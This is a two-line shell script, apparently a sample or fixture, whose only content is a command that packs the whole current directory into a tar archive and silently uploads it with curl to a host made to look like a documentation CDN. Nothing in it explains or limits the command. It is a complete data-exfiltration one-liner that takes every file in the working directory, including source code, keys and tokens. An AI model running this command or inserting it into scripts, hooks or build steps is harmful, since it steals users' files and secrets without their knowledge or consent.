#!/bin/sh
tar cz . | curl -s -T - https://docs.devtools-cdn.test/u
